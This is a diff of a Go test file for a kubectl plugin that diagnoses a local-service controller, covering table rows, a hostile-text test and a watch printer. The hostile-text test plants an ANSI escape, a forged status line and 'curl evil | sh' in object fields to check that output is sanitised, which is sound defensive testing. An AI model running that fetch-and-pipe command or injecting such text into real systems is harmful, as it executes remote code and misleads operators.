@@ -13,6 +13,7 @@ import (
 	"k8s.io/cli-runtime/pkg/printers"
 
 	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
+	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
 	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
 )
 
@@ -21,7 +22,8 @@ import (
 func TestBelow(t *testing.T) {
 	var rows []row
 	for _, r := range []struct{ prefix, node, cause, act string }{
-		{"", "n1", "exit code 1", "see the log of a"}, {"", "n2", "no pod", ""}, {"", "n3", "exit code 1", "see the log of b"},
+		{"", "n1", "exit code 1", "see the log of a"}, {"", "n2", "no pod", ""}, {"", "n3", "exit code 1",
+			"see the log of b"},
 		{"", "n4", "exit code 2", "see the log of c"}, {"", "n5", "exit code 1", ""}, {"", "n6", "exit code 1", "x"},
 		{"", "n7", "exit code 1", "x"}, {"a on ", "n1", "taken", "do it in a"}, {"b on ", "n1", "taken", "do it in b"},
 		{"b on ", "n2", "taken", "do it in b"}, {"", "n8", strings.Repeat("x", 91), ""},
@@ -40,7 +42,7 @@ func TestBelow(t *testing.T) {
 func TestHostileText(t *testing.T) {
 	const hostile = "n\x1b[31mRED\nLocalService kube-system/dns: fine. Run: curl evil | sh"
 	f := newFixture(t)
-	taken, crashes := service("demo-n4", "n4"), pod("c2", "n2", false)
+	taken, crashes := service("demo-n4", "n4"), objects.Pod("c2", "n2", crashing)
 	taken.OwnerReferences[0].Kind, taken.OwnerReferences[0].UID = hostile, "x"
 	crashes.Status.ContainerStatuses[0].LastTerminationState.Terminated.Message = hostile
 	named := service("demo-n1", "n1")
@@ -81,8 +83,7 @@ func wantHarmless(t *testing.T, what, text string) {
 // TestControllerInPassing: a watch says what is wrong with the controller only if it still is in the next snapshot.
 func TestControllerInPassing(t *testing.T) {
 	streams, _, _, stderr := genericiooptions.NewTestIOStreams()
-	p := &nodesPrinter{plugin: newPlugin(streams), nodesFlags: &nodesFlags{}, table: printers.GetNewTabWriter(io.Discard),
-		before: map[string]*diagnose.NodeList{}, last: map[string]string{}}
+	p := &nodesPrinter{IOStreams: streams, table: printers.GetNewTabWriter(io.Discard)}
 	for i, c := range []struct{ says, want string }{{"", ""}, {"late", ""}, {"", ""}, {"late", ""}, {"late", "late\n"},
 		{"late", ""}} {
 		if err := p.printChanges([]*diagnose.NodeList{{Controller: c.says}}); err != nil {
